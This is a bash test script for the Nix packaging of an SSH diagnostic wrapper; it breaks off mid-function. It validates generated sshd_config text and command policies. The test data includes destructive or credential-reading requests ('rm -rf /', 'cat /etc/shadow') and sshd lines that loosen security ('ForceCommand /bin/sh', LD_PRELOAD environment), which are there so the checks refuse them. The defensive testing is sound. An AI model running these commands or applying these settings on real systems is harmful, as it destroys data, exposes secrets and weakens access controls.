#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# Checks of the Nix packaging (flake.nix, nix/) that run on a Debian machine with nix-bin,
# without nixpkgs:
#
#   tests/nix/run_nix_checks.sh CHECK [PATH/TO/diag-wrapper]
#
#   parse              nix-instantiate --parse on every .nix file
#   eval_module        lib.evalModules of nix/module.nix, with nix/module-options.nix and
#                      nix/module-assertions.nix (and the flake, the package attributes,
#                      the VM test's host node) against a real nixpkgs lib: account,
#                      authorized_keys lines, policy attrset, tmpfiles rules, exact sshd text,
#                      the policy files as 0444 copies and the activation's compile snippet,
#                      and every assertion message for impossible combinations
#   eval_home_manager  nix/home-manager.nix with home-manager's real programs/ssh.nix
#                      (DIAG_HOME_MANAGER: a release with programs.ssh.settings), then `ssh -G`
#                      on the generated config
#   eval_home_manager_matchblocks
#                      the same with DIAG_HOME_MANAGER_MATCHBLOCKS, a release that has only
#                      programs.ssh.matchBlocks (25.11)
#   sshd_config        the generated sshd text through the real `sshd -t` and `sshd -T -C ...`
#   policy_check       the rendered policy, as TOML, through `diag-wrapper --check` and --explain,
#                      and the activation's --compile of it installed as root's 0444 copies
#
# Exit 0 pass, 1 fail, 77 skipped (ctest SKIP_RETURN_CODE), with the reason on stdout.
#
# Environment (none of them is vendored in this repository, for licensing):
#   DIAG_NIXPKGS_LIB   a nixpkgs lib: the lib/ directory of a nixpkgs or nix-community/nixpkgs.lib
#                      checkout, or the checkout itself
#   DIAG_HOME_MANAGER  a nix-community/home-manager checkout (modules/lib, modules/programs/ssh.nix)
#                      with programs.ssh.settings (master, 26.05 and later)
#   DIAG_HOME_MANAGER_MATCHBLOCKS  the same from a release with matchBlocks only (25.11)
# Unset, each defaults to the pinned copy CI keeps beside the clone, ../shared/third_party/
# {nixpkgs-lib,home-manager,home-manager-25.11} relative to the project root; the checks that
# need one skip only when neither is there (a developer machine without the copies).
# sshd_config and policy_check use the lib too when there (the module's own output), and
# otherwise check the builtins-only renderers in nix/render.nix.
set -euo pipefail

SRC=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")/../.." && pwd)
THIRD_PARTY=$SRC/../shared/third_party
: "${DIAG_NIXPKGS_LIB:=$THIRD_PARTY/nixpkgs-lib}"
: "${DIAG_HOME_MANAGER:=$THIRD_PARTY/home-manager}"
: "${DIAG_HOME_MANAGER_MATCHBLOCKS:=$THIRD_PARTY/home-manager-25.11}"
CHECK=${1:-}
WRAPPER=${2:-}

say() { printf '%s\n' "$*"; }
fail() { say "FAIL: $*" >&2; exit 1; }
# DIAG_NIX_CHECKS_REQUIRED=1 (scripts/test.sh sets it when the pinned copies are there): a
# missing prerequisite is a failure, so CI cannot pass with a module evaluation skipped.
skip() {
    [[ ${DIAG_NIX_CHECKS_REQUIRED:-0} == 1 ]] && fail "required but would skip: $*"
    say "SKIP: $*"
    exit 77
}

command -v nix-instantiate >/dev/null 2>&1 \
    || skip "nix-instantiate is not installed (Debian: apt-get install nix-bin; scripts/deps.sh does)"
command -v python3 >/dev/null 2>&1 || skip "python3 is not installed"

# Pure evaluation: no daemon, no store writes, works as any user.
NI=(nix-instantiate --store dummy://)
nix_json() { "${NI[@]}" --eval --strict --json "$@"; }

TMP=$(mktemp -d "${TMPDIR:-/tmp}/diag-nix.XXXXXX")
trap 'rm -rf -- "$TMP"' EXIT

# The lib directory of DIAG_NIXPKGS_LIB, or empty when unset or absent; a path that exists but is
# no nixpkgs lib is an error.
nixpkgs_lib() {
    local p=${DIAG_NIXPKGS_LIB:-}
    [[ -n $p && -e $p ]] || return 0
    if [[ -f $p/lib/modules.nix && -f $p/lib/default.nix ]]; then
        printf '%s\n' "$(cd -- "$p/lib" && pwd)"
    elif [[ -f $p/modules.nix && -f $p/default.nix ]]; then
        printf '%s\n' "$(cd -- "$p" && pwd)"
    else
        fail "DIAG_NIXPKGS_LIB=$p holds neither lib/modules.nix nor modules.nix"
    fi
}
need_lib() {
    LIB=$(nixpkgs_lib)
    [[ -n $LIB ]] || skip "DIAG_NIXPKGS_LIB is ${DIAG_NIXPKGS_LIB:+not a directory: }${DIAG_NIXPKGS_LIB:-not set}; point it at a nixpkgs lib (e.g. a checkout of nix-community/nixpkgs.lib) to evaluate the module; it is not vendored and CI has no network"
}

# Expected values shared by several checks.
WRAPPER_STUB=/nix/store/00000000000000000000000000000000-diag-wrapper-0.1.0/bin/diag-wrapper
KEY_CI="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5/aElKUSSZagCtVb3A1wEoVVdSb1kheK4zS2lE ci@example"
KEY_ONCALL="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFgcawY8XwoFMARc+uJh8xligJ2kdAa80ZqbuISRkljn oncall@example"
FP_CI="SHA256:7n5UIMBIban1a78jtE9UOpTIwscHnsj+GEhcRHuUiZU"
FP_ONCALL="SHA256:F/+kHv2vcL/oCfyLIPrQwdqgFXiQHqc7tYFCzU+82Uo"
export WRAPPER_STUB KEY_CI KEY_ONCALL FP_CI FP_ONCALL SRC TMP

# The diag block exactly as module.nix must emit it.
EXPECTED_BLOCK="Match User diag
  AuthorizedKeysFile /etc/ssh/authorized_keys.d/%u
  AuthorizedKeysCommand none
  AuthorizedPrincipalsFile none
  AuthorizedPrincipalsCommand none
  TrustedUserCAKeys none
  AuthenticationMethods publickey
  ForceCommand $WRAPPER_STUB
  DisableForwarding yes
  AllowTcpForwarding no
  AllowAgentForwarding no
  AllowStreamLocalForwarding no
  X11Forwarding no
  PermitTunnel no
  PermitTTY no
  PermitUserRC no
  ExposeAuthInfo yes
  LogLevel VERBOSE
Match all
"
export EXPECTED_BLOCK

# ------------------------------------------------------------------------------------------------
check_parse() {
    local files=() f n=0
    mapfile -t files < <(cd -- "$SRC" && find flake.nix nix -name '*.nix' -type f | LC_ALL=C sort)
    [[ ${#files[@]} -ge 10 ]] || fail "expected flake.nix and the nix/ files, found: ${files[*]}"
    for f in "${files[@]}"; do
        if ! out=$("${NI[@]}" --parse "$SRC/$f" 2>&1 >/dev/null); then
            fail "nix-instantiate --parse $f: $out"
        fi
        n=$((n + 1))
    done
    say "parsed $n files: ${files[*]}"
}

# ------------------------------------------------------------------------------------------------
# validate_sshd CONFIG WRAPPER LABEL: sshd -t, then sshd -T for diag and for another user.
# NEIGHBOURS=1: the config holds the loosening Match blocks of nix/checks/sshd-neighbours.nix,
# and alice (whom they match) must get their values: proof that they are live.
validate_sshd() {
    local cfg=$1 wrapper=$2 label=$3 ctx=host=client.example,addr=192.0.2.10,laddr=192.0.2.1,lport=22
    local out
    out=$("$SSHD" -t -f "$cfg" 2>&1) || fail "$label: sshd -t rejects the config: $out"
    "$SSHD" -T -f "$cfg" -C "user=diag,$ctx" >"$TMP/T.diag" 2>&1 || fail "$label: sshd -T (diag): $(cat "$TMP/T.diag")"
    "$SSHD" -T -f "$cfg" -C "user=alice,$ctx" >"$TMP/T.alice" 2>&1 || fail "$label: sshd -T (alice): $(cat "$TMP/T.alice")"
    NEIGHBOURS=${NEIGHBOURS:-0} python3 - "$TMP/T.diag" "$TMP/T.alice" "$wrapper" "$label" <<'PY'
import os, sys
diag = open(sys.argv[1]).read().splitlines()
alice = open(sys.argv[2]).read().splitlines()
wrapper, label = sys.argv[3], sys.argv[4]
want_diag = [
    f"forcecommand {wrapper}",
    "disableforwarding yes",
    "permittty no",
    "permittunnel no",
    "permituserrc no",
    "exposeauthinfo yes",
    "allowtcpforwarding no",
    "allowagentforwarding no",
    "allowstreamlocalforwarding no",
    "x11forwarding no",
    "authorizedkeysfile /etc/ssh/authorized_keys.d/%u",
    "authorizedkeyscommand none",
    "authenticationmethods publickey",
    "trustedusercakeys none",
    "authorizedprincipalsfile none",
    "authorizedprincipalscommand none",
    "loglevel VERBOSE",
    "clientalivecountmax 7",      # a global line written after the block applies to diag too
    "clientaliveinterval 120",
]
want_alice = [
    "forcecommand none",
    "permittty yes",
    "disableforwarding no",
    "exposeauthinfo no",
    "clientalivecountmax 7",      # ... and to everyone else: it stayed global
]
if os.environ["NEIGHBOURS"] == "1":
    want_alice += ["authorizedkeyscommand /usr/local/bin/neighbour-keys %u",
                   "authenticationmethods password publickey",
                   "trustedusercakeys /etc/ssh/neighbour-ca.pub",
                   "loglevel ERROR"]
else:
    want_alice += ["authenticationmethods any"]
bad = [f"diag: missing {l!r}" for l in want_diag if l not in diag]
bad += [f"alice: missing {l!r}" for l in want_alice if l not in alice]
if bad:
    sys.exit(f"FAIL: {label}: sshd -T:\n  " + "\n  ".join(bad))
print(f"{label}: sshd -t ok; sshd -T: diag gets ForceCommand, DisableForwarding, PermitTTY no, "
      f"ExposeAuthInfo; alice does not; the line after the block stays global")
PY
}

check_sshd_config() {
    SSHD=$(command -v sshd 2>/dev/null || true)
    [[ -n $SSHD ]] || SSHD=/usr/sbin/sshd
    [[ -x $SSHD ]] || skip "sshd is not installed (Debian: openssh-server)"
    # sshd -t and -T insist on the privilege separation directory, which a container without
    # systemd-tmpfiles lacks (the e2e test creates it the same way).
    if [[ ! -d /run/sshd ]]; then
        [[ $(id -u) -eq 0 ]] || skip "/run/sshd is missing and only root can create it (sshd -t needs it)"
        mkdir -m 0755 /run/sshd 2>/dev/null || [[ -d /run/sshd ]] || fail "mkdir /run/sshd"
    fi
    command -v ssh-keygen >/dev/null 2>&1 || skip "ssh-keygen is not installed (Debian: openssh-client)"
    ssh-keygen -q -t ed25519 -N "" -f "$TMP/hostkey"

    # 1. The builtins-only renderer (always).
    nix_json "$SRC/nix/checks/sshd-config.nix" --argstr hostKey "$TMP/hostkey" >"$TMP/render.json" \
        || fail "evaluating nix/checks/sshd-config.nix"
    python3 - "$TMP/render.json" "$TMP" <<'PY'
import json, os, sys
d = json.load(open(sys.argv[1]))
tmp = sys.argv[2]
if d["matchBlock"] != os.environ["EXPECTED_BLOCK"]:
    sys.exit("FAIL: render.matchBlock differs from the expected text:\n" + d["matchBlock"])
open(f"{tmp}/sshd_config", "w").write(d["sshdConfig"])
# The same file without the closing `Match all`: sshd must refuse it (the global Subsystem line
# after the block would fall into it), which is why the block is closed.
open(f"{tmp}/sshd_config.unclosed", "w").write(d["sshdConfig"].replace("Match all\n", ""))
open(f"{tmp}/authorized_keys", "w").write("\n".join(d["authorizedKeys"]) + "\n")
want = ["d /var/log/diag-wrapper 0750 root diag - -",
        "f /var/log/diag-wrapper/audit.jsonl 0620 root diag - -",
        "h /var/log/diag-wrapper/audit.jsonl - - - - +a"]
if d["auditFileRules"] != want:
    sys.exit(f"FAIL: auditFileRules: {d['auditFileRules']}")
PY
    validate_sshd "$TMP/sshd_config" "$WRAPPER_STUB" "render.nix"
    if out=$("$SSHD" -t -f "$TMP/sshd_config.unclosed" 2>&1); then
        fail "sshd accepted the block without 'Match all' followed by a global Subsystem line"
    fi
    grep -q "not allowed within a Match block" <<<"$out" \
        || fail "unclosed block: unexpected sshd error: $out"
    say "without 'Match all' sshd refuses the config: $out"

    # authorized_keys lines: options prefix accepted by ssh-keygen, fingerprints as expected.
    local fps
    fps=$(ssh-keygen -lf "$TMP/authorized_keys" | awk '{print $2}' | paste -sd' ')
    [[ $fps == "$FP_CI $FP_ONCALL" ]] || fail "ssh-keygen -lf authorized_keys: got '$fps'"
    say "authorized_keys: restrict,command=... and from=... lines parse; fingerprints $fps"

    # 2. The module's own sshd_config (needs the nixpkgs lib).
    LIB=$(nixpkgs_lib)
    if [[ -z $LIB ]]; then
        [[ ${DIAG_NIX_CHECKS_REQUIRED:-0} == 1 ]] && fail "required: DIAG_NIXPKGS_LIB ${DIAG_NIXPKGS_LIB:+not found: }${DIAG_NIXPKGS_LIB:-not set}"
        say "module-generated sshd text and the build-time sshd check not checked here: DIAG_NIXPKGS_LIB ${DIAG_NIXPKGS_LIB:+not found: }${DIAG_NIXPKGS_LIB:-not set}"
        return 0
    fi
    local scenario
    for scenario in web02 minimal; do
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario "$scenario" \
            --argstr hostKey "$TMP/hostkey" >"$TMP/module.json" || fail "evaluating the module ($scenario)"
        python3 - "$TMP/module.json" "$TMP/sshd_config.module" <<'PY'
import json, os, sys
d = json.load(open(sys.argv[1]))
if d["failedAssertions"]:
    sys.exit(f"FAIL: assertions: {d['failedAssertions']}")
text = d["sshdConfig"]
if os.environ["EXPECTED_BLOCK"] not in text:
    sys.exit("FAIL: the module's sshd_config lacks the exact diag block:\n" + text)
if not text.startswith("LogLevel VERBOSE\n"):
    sys.exit("FAIL: LogLevel VERBOSE missing:\n" + text)
open(sys.argv[2], "w").write(text)
PY
        NEIGHBOURS=1 validate_sshd "$TMP/sshd_config.module" "$WRAPPER_STUB" "module.nix ($scenario)"
    done

    # 3. The module's build-time sshd check (system.checks): the derivation's script must run
    #    nix/sshd-check.sh on the final file with the arguments it records, and that script, run
    #    here with Debian's sshd, must accept the config with the neighbour Match blocks and refuse
    #    it once a loosening block comes before the diag block. The account `nobody` exists on
    #    every Debian machine, so the neighbours' `Match Group nogroup` applies to it for real.
    local user early out
    for user in diag nobody; do
        for early in false true; do
            nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr hostKey "$TMP/hostkey" \
                --arg earlyNeighbour "$early" --arg extra "{ services.diag-wrapper.user = \"$user\"; }" \
                >"$TMP/module.json" 2>"$TMP/err" || fail "evaluating the module (user $user): $(cat "$TMP/err")"
            python3 - "$TMP/module.json" "$TMP/final_sshd_config" "$TMP/check_args" <<'PY'
import json, shlex, sys
d = json.load(open(sys.argv[1]))
checks = {c["name"]: c for c in d["buildChecks"]}
if "diag-wrapper-sshd-check" not in checks:
    sys.exit(f"FAIL: system.checks has no sshd check: {sorted(checks)}")
c = checks["diag-wrapper-sshd-check"]
args = c["passthru"]["checkArgs"]
cmd = shlex.split(c["script"].splitlines()[0])
if not (cmd[0] == "bash" and cmd[1].endswith("-sshd-check.sh") and cmd[2:6] == ["--sshd", "sshd", "--config", cmd[5]]
        and cmd[6:] == args):
    sys.exit(f"FAIL: the sshd check's script is not sshd-check.sh with its recorded arguments:\n{c['script']}")
open(sys.argv[2], "w").write(d["sshdConfigFile"])
open(sys.argv[3], "w").write("\n".join(args) + "\n")
PY
            mapfile -t args <"$TMP/check_args"
            if [[ $early == false ]]; then
                out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1) \
                    || fail "build-time sshd check refuses the module's config (user $user) with neighbour blocks: $out"
                say "module.nix, neighbour Match blocks (Address, Group, User; orders 0, mkBefore, default, mkAfter), account $user: $out"
            else
                if out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1); then
                    fail "build-time sshd check accepted a config with a loosening block before the $user block: $out"
                fi
                grep -q "'Match Address 192.0.2.0/24' comes before the $user block" <<<"$out" || fail "unexpected sshd check failure: $out"
                say "a loosening block placed before the $user block fails the build: $out"
            fi
        done
    done

    # final_config_and_args MODULE_JSON: the final sshd_config and the sshd check's arguments.
    final_config_and_args() {
        python3 - "$1" "$TMP/final_sshd_config" "$TMP/check_args" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
c = {c["name"]: c for c in d["buildChecks"]}["diag-wrapper-sshd-check"]
open(sys.argv[2], "w").write(d["sshdConfigFile"])
open(sys.argv[3], "w").write("\n".join(c["passthru"]["checkArgs"]) + "\n")
PY
        mapfile -t args <"$TMP/check_args"
    }

    # 4. What the values asked cannot show: the file itself. Each EXTRA-MODULE|EXPECTED-ERROR: a
    #    line placed in extraConfig (the assertions refuse these too; the build-time check must
    #    refuse them on its own, for what reaches sshd_config some other way).
    local loosen='\n  PermitTTY yes\n  DisableForwarding no\n  ForceCommand /bin/sh\n  AuthorizedKeysFile .ssh/authorized_keys\nMatch all\n'
    local case extra want
    for case in \
        "lib.mkOrder (-2000) \"Include /etc/ssh/sshd_config.d/*.conf\\n\"|'Include /etc/ssh/sshd_config.d/\\*.conf': the included files are not part of the build" \
        "lib.mkAfter \"Include /etc/ssh/sshd_config.d/*.conf\\n\"|'Include /etc/ssh/sshd_config.d/\\*.conf'" \
        "lib.mkOrder (-2000) \"Match LocalAddress 10.0.0.0/8$loosen\"|'Match LocalAddress 10.0.0.0/8' comes before the diag block" \
        "lib.mkOrder (-2000) \"Match LocalPort 2222$loosen\"|'Match LocalPort 2222' comes before the diag block" \
        "lib.mkOrder (-2000) \"Match Host 192.0.2.*$loosen\"|'Match Host 192.0.2.\\*' comes before the diag block" \
        "lib.mkOrder (-2000) \"Match RDomain *$loosen\"|'Match RDomain \\*' comes before the diag block" \
        "lib.mkOrder (-2000) \"  match=group wheel$loosen\"|'Match group wheel' comes before the diag block" \
        "lib.mkAfter \"AcceptEnv LANG LC_*\\n\"|gets 'acceptenv LANG acceptenv LC_\\*': it reaches the wrapper's environment" \
        "lib.mkAfter \"Match Address 192.0.2.0/24\\n  AcceptEnv LD_PRELOAD\\nMatch all\\n\"|addr=192.0.2.10,.*gets 'acceptenv LD_PRELOAD'" \
        "lib.mkAfter \"Match Address 10.0.0.0/8\\n  SetEnv LD_LIBRARY_PATH=/tmp\\nMatch all\\n\"|gets 'setenv LD_LIBRARY_PATH=/tmp'" \
        "lib.mkAfter \"PermitUserEnvironment yes\\n\"|gets 'permituserenvironment yes', not 'permituserenvironment no'"; do
        extra="{ lib, ... }: { services.openssh.extraConfig = ${case%%|*}; }"
        want=${case#*|}
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr hostKey "$TMP/hostkey" --argstr scenario minimal \
            --arg extra "$extra" >"$TMP/module.json" 2>"$TMP/err" || fail "evaluating the module with $extra: $(cat "$TMP/err")"
        final_config_and_args "$TMP/module.json"
        if out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1); then
            fail "build-time sshd check accepted ${case%%|*}: $out"
        fi
        grep -qE -- "$want" <<<"$out" || fail "${case%%|*}: expected /$want/ in: $out"
        say "build fails for ${case%%|*}: ${out#sshd-check: FAIL: }"
    done

    # Ports and local addresses come from the file: a ListenAddress with its own port is asked.
    extra='{ lib, ... }: { services.openssh.extraConfig = lib.mkAfter "ListenAddress 0.0.0.0:2222\nListenAddress [::1]:2200\n"; }'
    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr hostKey "$TMP/hostkey" --argstr scenario minimal \
        --arg extra "$extra" >"$TMP/module.json" || fail "evaluating the module with ListenAddress"
    final_config_and_args "$TMP/module.json"
    out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1) \
        || fail "build-time sshd check refuses ListenAddress lines: $out"
    grep -qF "(ports 2222 2200 22; local addresses ::1 192.0.2.1 2001:db8::1;" <<<"$out" \
        || fail "the sshd check does not ask the ListenAddress ports and addresses: $out"
    say "ListenAddress ports and addresses are asked: $out"
}

# ------------------------------------------------------------------------------------------------
# JSON policy -> TOML files the wrapper reads. Nix attribute sets have no order, so command
# tables come out sorted by ID, as pkgs.formats.toml writes them.
write_toml_helper() {
    cat >"$TMP/to_toml.py" <<'PY'
import json, re, sys

BARE = re.compile(r"^[A-Za-z0-9_-]+$")

def key(k):
    return k if BARE.match(k) else json.dumps(k)

def value(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, (int, float)):
        return json.dumps(v)
    if isinstance(v, str):
        return json.dumps(v)  # ASCII with \uXXXX escapes: valid TOML basic strings
    if isinstance(v, list):
        return "[" + ", ".join(value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{ " + ", ".join(f"{key(k)} = {value(x)}" for k, x in v.items()) + " }"
    raise TypeError(type(v))

def table(path, d, out):
    scalars = {k: v for k, v in d.items() if not isinstance(v, dict)}
    subs = {k: v for k, v in d.items() if isinstance(v, dict)}
    if path and (scalars or not subs):
        out.append("")
        out.append("[" + ".".join(key(p) for p in path) + "]")
    for k, v in scalars.items():
        out.append(f"{key(k)} = {value(v)}")
    for k, v in subs.items():
        table(path + [k], v, out)

def to_toml(d):
    out = []
    table([], d, out)
    return "\n".join(out).lstrip("\n") + "\n"

if __name__ == "__main__":
    # to_toml.py POLICY.json OUTDIR: OUTDIR/policy.toml (include -> OUTDIR/policy.d) and
    # OUTDIR/policy.d/NAME.toml for each drop-in. The JSON is {"main": {...}, "dropIns": {...}}.
    src, outdir = sys.argv[1], sys.argv[2]
    d = json.load(open(src))
    main = d["main"]
    main["settings"]["include"] = [f"{outdir}/policy.d" if p == "/etc/diag-wrapper/policy.d" else p
                                   for p in main["settings"].get("include", [])]
    open(f"{outdir}/policy.toml", "w").write(to_toml(main))
    for name, drop in d.get("dropIns", {}).items():
        open(f"{outdir}/policy.d/{name}.toml", "w").write(to_toml(drop))
PY
}

# explain POLICY REQUEST -> "decision|rule|reason|exec" (file:line positions dropped)
explain() {
    local out rc=0
    out=$("$WRAPPER" --policy "$1" --explain -- "$2" 2>&1) || rc=$?
    python3 -c '
import re, sys
f = {}
for line in sys.stdin.read().splitlines():
    k, _, v = line.partition(": ")
    if k in ("decision", "rule", "reason", "exec"):
        f[k] = re.sub(r" \([^()]*:[0-9]+\)$", "", v)
print("|".join(f.get(k, "") for k in ("decision", "rule", "reason", "exec")) + "|rc=" + sys.argv[1])
' "$rc" <<<"$out"
}

# policy_case LABEL JSON: install as TOML, --check, compare decisions with the shipped policy,
# and check the host-specific deny entry and command.
policy_case() {
    local label=$1 json=$2 dir out
    dir=$(mktemp -d "$TMP/policy.XXXXXX")
    mkdir -m 0755 "$dir/policy.d"
    python3 "$TMP/to_toml.py" "$json" "$dir" || fail "$label: converting to TOML"
    chmod 0644 "$dir/policy.toml" "$dir"/policy.d/*.toml 2>/dev/null || true
    LC_ALL=C grep -qP '[^\x00-\x7f]' "$dir/policy.toml" "$dir"/policy.d/*.toml 2>/dev/null \
        && fail "$label: the rendered policy is not ASCII"
    out=$("$WRAPPER" --policy "$dir/policy.toml" --check 2>&1) \
        || fail "$label: diag-wrapper --check refuses the rendered policy: $out"
    grep -q "policy OK" <<<"$out" || fail "$label: unexpected --check output: $out"
    grep -q "50-host.toml" <<<"$out" || say "$label: note: --check output does not list the drop-in"
    say "$label: diag-wrapper --check: $(head -n1 <<<"$out"); $(grep -E '^(commands|deny entries):' <<<"$out" | paste -sd';')"

    # Same decisions as the shipped policy for requests its rules cover (rule order survives the
    # trip through a sorted attribute set).
    local r a b n=0
    local requests=(
        "systemctl status sshd" "systemctl restart sshd" "systemctl list-units --failed"
        "journalctl -u ssh -n 20" "journalctl --vacuum-time=1s" "cat /etc/shadow" "cat /etc/hostname"
        "grep -e root /etc/hostname" "grep root /etc/hostname" "ps aux" "ps -ef" "ip -br addr"
        "ip route get 192.0.2.1" "ss -tlnp" "df -h" "ls -l /etc/ssh" "find /etc -name hostname"
        "uptime" "free -m" "sysctl -w kernel.panic=1" "rm -rf /" "nix config show" "help"
    )
    for r in "${requests[@]}"; do
        a=$(explain "$ORIG" "$r")
        b=$(explain "$dir/policy.toml" "$r")
        [[ $a == "$b" ]] || fail "$label: '$r' is decided differently: shipped [$a], rendered [$b]"
        n=$((n + 1))
    done
    say "$label: $n requests decided exactly as by policy/default.toml"

    # Host-specific: the extra deny entry and the drop-in's command.
    b=$(explain "$dir/policy.toml" "cat $TMP/secrets/host.env")
    [[ $b == deny\|*\|path-denied\|*rc=126 ]] || fail "$label: cat of the host secret: [$b]"
    b=$(explain "$dir/policy.toml" "cat $TMP/public.txt")
    [[ $b == allow\|cat\|* ]] || fail "$label: cat of a public file: [$b]"
    b=$(explain "$dir/policy.toml" "zpool status")
    [[ $b == allow\|zpool-status\|* || $b == deny\|*\|command-unavailable\|* ]] \
        || fail "$label: zpool status from the drop-in: [$b]"
    say "$label: extraDenyPaths refuses the host secret (path-denied); the drop-in's zpool-status rule is loaded"
}

check_policy_check() {
    [[ -n $WRAPPER ]] || fail "usage: $0 policy_check PATH/TO/diag-wrapper"
    [[ -x $WRAPPER ]] || fail "diag-wrapper binary not found: $WRAPPER"
    [[ $(id -u) -eq 0 ]] || skip "not root: the wrapper loads only root-owned policy files"
    command -v setpriv >/dev/null 2>&1 || skip "setpriv is not installed (Debian: util-linux)"
    write_toml_helper
    mkdir -m 0755 "$TMP/secrets"
    echo "TOKEN=canary" >"$TMP/secrets/host.env"
    echo "public" >"$TMP/public.txt"
    chmod 0755 "$TMP"
    chmod 0644 "$TMP/secrets/host.env" "$TMP/public.txt"
    # The shipped policy, with its include pointed at an empty directory.
    ORIG=$TMP/orig.toml
    mkdir -m 0755 "$TMP/orig.d"
    sed "s#\"/etc/diag-wrapper/policy.d\"#\"$TMP/orig.d\"#" "$SRC/policy/default.toml" >"$ORIG"
    "$WRAPPER" --policy "$ORIG" --check >/dev/null 2>&1 || fail "the shipped policy itself fails --check: $("$WRAPPER" --policy "$ORIG" --check 2>&1)"

    # 1. Builtins-only rendering (always): the base plus [audit] with journald and principals,
    #    and the host drop-in.
    nix_json "$SRC/nix/checks/render-policy.nix" --arg extraDenyPaths "[ \"$TMP/secrets/host.env\" ]" \
        >"$TMP/render-policy.json" || fail "evaluating nix/checks/render-policy.nix"
    policy_case "render.nix" "$TMP/render-policy.json"

    # 2. The module's policy (needs the nixpkgs lib).
    LIB=$(nixpkgs_lib)
    if [[ -z $LIB ]]; then
        [[ ${DIAG_NIX_CHECKS_REQUIRED:-0} == 1 ]] && fail "required: DIAG_NIXPKGS_LIB ${DIAG_NIXPKGS_LIB:+not found: }${DIAG_NIXPKGS_LIB:-not set}"
        say "module-rendered policy and the build-time policy check not checked here: DIAG_NIXPKGS_LIB ${DIAG_NIXPKGS_LIB:+not found: }${DIAG_NIXPKGS_LIB:-not set}"
        return 0
    fi
    local scenario extra
    for scenario in web02 minimal; do
        # web02 has its own zpool-status command; minimal gets one from here.
        extra="services.diag-wrapper.extraDenyPaths = [ \"$TMP/secrets/host.env\" ];"
        [[ $scenario == minimal ]] && extra+=' services.diag-wrapper.extraCommands.zpool-status = { match = [ "zpool" "status" ]; description = "ZFS pool health"; option = [ { names = [ "-x" ]; type = "flag"; } ]; };'
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario "$scenario" \
            --arg extra "{ $extra }" >"$TMP/module.json" 2>"$TMP/module.err" \
            || fail "evaluating the module ($scenario): $(cat "$TMP/module.err")"
        python3 - "$TMP/module.json" "$TMP/module-policy.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
if d["failedAssertions"]:
    sys.exit(f"FAIL: assertions: {d['failedAssertions']}")
etc = d["etc"]
drop = {k.split("/")[-1][:-5]: v for k, v in etc.items() if k.startswith("diag-wrapper/policy.d/")}
json.dump({"main": etc["diag-wrapper/policy.toml"], "dropIns": drop}, open(sys.argv[2], "w"))
PY
        policy_case "module.nix ($scenario)" "$TMP/module-policy.json"
        replay_policy_build_check "module.nix ($scenario)" "$TMP/module.json" ok
        replay_activation "module.nix ($scenario)" "$TMP/module.json" "$TMP/module-policy.json"
    done

    # A policy the loader refuses must fail the build, with file:line:col, although it evaluates:
    # a command without `match`, a duration that is none.
    local bad
    for bad in \
        'services.diag-wrapper.extraCommands.uptime-x = { description = "uptime without match"; };|50-host.toml:[0-9]+:[0-9]+: .*match' \
        'services.diag-wrapper.policy.settings.timeout = "banana";|policy.toml:[0-9]+:[0-9]+: settings.timeout: .banana. is not a positive duration'; do
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario minimal \
            --arg extra "{ ${bad%%|*} }" >"$TMP/module.json" 2>"$TMP/module.err" \
            || fail "evaluating the module with ${bad%%|*}: $(cat "$TMP/module.err")"
        replay_policy_build_check "module.nix (${bad%%|*})" "$TMP/module.json" "${bad#*|}"
    done
}

# replay_activation LABEL MODULE_JSON POLICY_JSON: the module's files installed the way NixOS's
# setup-etc installs them now (root-owned 0444 copies in a root-owned 0755 directory), then its
# compile snippet run with the wrapper under test: the wrapper must accept the copies and the
# image must be current; a rebuild that changes a file makes it stale until the next activation;
# a compile that fails leaves the activation successful with one warning line.
replay_activation() {
    local label=$1 json=$2 policy_json=$3 dir out
    dir=$(mktemp -d "$TMP/etc.XXXXXX")
    chmod 0755 "$dir"
    mkdir -m 0755 "$dir/policy.d"
    python3 "$TMP/to_toml.py" "$policy_json" "$dir" || fail "$label: converting to TOML"
    chmod 0444 "$dir/policy.toml" "$dir"/policy.d/*.toml
    local before
    before=$(cd "$dir" && find . -type f | LC_ALL=C sort)
    out=$(run_activation_snippet "$json" "$WRAPPER" "$dir/policy.toml")
    [[ $out == "0|" ]] || fail "$label: the compile snippet on root's 0444 copies: expected status 0 and no output, got [$out]"
    image_state() { "$WRAPPER" --policy "$dir/policy.toml" --check 2>&1 | tail -n 1; }
    out=$(image_state)
    [[ $out == "compiled image: current: $dir/policy.toml.compiled (requests use it)" ]] \
        || fail "$label: after the activation: $out"
    [[ $(stat -c %U:%a "$dir/policy.toml.compiled") == root:644 ]] || fail "$label: image $(stat -c %U:%a "$dir/policy.toml.compiled")"
    # Beside policy.toml, never among the drop-ins the loader lists.
    out=$(cd "$dir" && find . -type f | LC_ALL=C sort)
    [[ $out == "$(printf '%s\n' "$before" ./policy.toml.compiled | LC_ALL=C sort)" ]] \
        || fail "$label: the activation wrote more or elsewhere than policy.toml.compiled: $out"
    # A rebuild: setup-etc replaces a copy; until the snippet runs, requests parse the files.
    chmod 0644 "$dir/policy.toml" && echo "# rebuilt" >>"$dir/policy.toml" && chmod 0444 "$dir/policy.toml"
    out=$(image_state)
